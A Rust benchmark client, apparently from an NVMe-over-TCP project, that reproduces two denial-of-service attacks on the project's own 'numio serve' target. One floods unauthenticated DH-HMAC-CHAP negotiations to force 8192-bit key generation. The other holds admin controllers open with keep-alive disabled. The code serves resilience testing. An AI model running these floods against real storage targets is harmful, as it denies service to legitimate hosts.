//! The attacks of issue 38 on `numio serve`, for `bench/serve-attack.sh`:
//! a client that speaks raw NVMe/TCP and holds or loads the target while a
//! good host's reads are measured. Not a test: it runs until its time is up.
//!
//! ```text
//! serve_attack dh-flood   ADDR SUBNQN HOSTNQN CONNECTIONS SECONDS
//! serve_attack idle-admin ADDR SUBNQN HOSTNQN CONNECTIONS SECONDS
//! serve_attack gen-secret
//! ```
//! - `gen-secret`: prints a fresh DH-HMAC-CHAP secret (`DHHC-1:00:...:`)
//!   for the target's configuration.
//! - `dh-flood`: each connection Connects as HOSTNQN (a host that must
//!   authenticate; the secret is not needed) and loops AUTH_Send Negotiate
//!   (sha256, ffdhe8192 only) and AUTH_Receive, asking the target for an
//!   8192-bit key pair each time; when the target ends the queue (its
//!   Negotiate limit, a DH budget) it reconnects.
//! - `idle-admin`: CONNECTIONS admin queues Connect with KATO 0 and send
//!   nothing more, holding controllers; each that is closed is reopened.
//!
//! It prints one line at the end: what it did (`challenges N`, `connects N`).

use std::io::ErrorKind;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use nvme_spec::auth::{self as wire, Message, Negotiate, FCTYPE_AUTH_RECEIVE, FCTYPE_AUTH_SEND};
use nvmf::auth::{DhGroup, HashFn};
use nvmf::{Initiator, InitiatorOptions};

fn usage() -> ! {
    eprintln!("usage: serve_attack dh-flood|idle-admin ADDR SUBNQN HOSTNQN CONNECTIONS SECONDS");
    std::process::exit(2)
}

struct Args {
    addr: SocketAddr,
    subnqn: String,
    hostnqn: String,
    until: Instant,
}

fn connect(a: &Args, kato_ms: u32) -> Option<Initiator> {
    let o = InitiatorOptions {
        hostnqn: a.hostnqn.clone(),
        kato_ms,
        timeout: Duration::from_secs(1),
        ..Default::default()
    };
    let mut i = Initiator::open(a.addr, &o).ok()?;
    // A host that must authenticate gets ATR set: an Auth error here, and
    // the queue is connected. Any other error is a refusal: the caller
    // backs off before it tries again.
    match i.fabrics_connect(&a.subnqn, 0, 0xFFFF) {
        Ok(_) | Err(nvmf::InitiatorError::Auth(_)) => Some(i),
        Err(_) => None,
    }
}

/// Negotiate + Receive until the queue ends or the time is up; the
/// challenges the target computed.
fn flood_one(a: &Args, i: &mut Initiator) -> u64 {
    let mut n = 0;
    let mut t_id = 1u16;
    while Instant::now() < a.until {
        let neg = Message::Negotiate(Negotiate {
            t_id,
            sc_c: 0,
            hashes: vec![HashFn::Sha256.id()],
            dhgroups: vec![DhGroup::Ffdhe8192.id()],
        })
        .encode();
        t_id = t_id.wrapping_add(1);
        let sent = i.command(
            wire::command(FCTYPE_AUTH_SEND, 0, neg.len() as u32),
            &neg,
            0,
        );
        if sent.is_err() {
            return n;
        }
        match i.command(wire::command(FCTYPE_AUTH_RECEIVE, 0, 2048), &[], 2048) {
            Ok(c) => match Message::decode(&c.data) {
                Ok(Message::Challenge(_)) => n += 1,
                _ => return n,
            },
            Err(_) => return n,
        }
    }
    n
}

fn dh_flood(a: &Args) -> (u64, u64) {
    let (mut challenges, mut connects) = (0, 0);
    while Instant::now() < a.until {
        match connect(a, 5000) {
            Some(mut i) => {
                connects += 1;
                challenges += flood_one(a, &mut i);
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    }
    (challenges, connects)
}

fn idle_admin(a: &Args) -> (u64, u64) {
    let mut connects = 0;
    while Instant::now() < a.until {
        let Some(mut i) = connect(a, 0) else {
            std::thread::sleep(Duration::from_millis(50));
            continue;
        };
        connects += 1;
        // Hold it: wait for the target to close it (or the time to end).
        while Instant::now() < a.until {
            match i.recv_pdu_bytes() {
                Err(nvmf::InitiatorError::Io(e))
                    if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                _ => break,
            }
        }
    }
    (0, connects)
}

fn main() {
    let v: Vec<String> = std::env::args().collect();
    if v.get(1).map(String::as_str) == Some("gen-secret") {
        println!(
            "{}",
            nvmf::auth::Secret::generate(32, None).encode().as_str()
        );
        return;
    }
    if v.len() != 7 {
        usage();
    }
    let conns: usize = v[5].parse().unwrap_or_else(|_| usage());
    let secs: u64 = v[6].parse().unwrap_or_else(|_| usage());
    let run: fn(&Args) -> (u64, u64) = match v[1].as_str() {
        "dh-flood" => dh_flood,
        "idle-admin" => idle_admin,
        _ => usage(),
    };
    let threads: Vec<_> = (0..conns)
        .map(|_| {
            let a = Args {
                addr: v[2].parse().unwrap_or_else(|_| usage()),
                subnqn: v[3].clone(),
                hostnqn: v[4].clone(),
                until: Instant::now() + Duration::from_secs(secs),
            };
            std::thread::spawn(move || run(&a))
        })
        .collect();
    let (mut challenges, mut connects) = (0, 0);
    for t in threads {
        let (c, n) = t.join().expect("attack thread");
        challenges += c;
        connects += n;
    }
    println!("{} challenges {challenges} connects {connects}", v[1]);
}
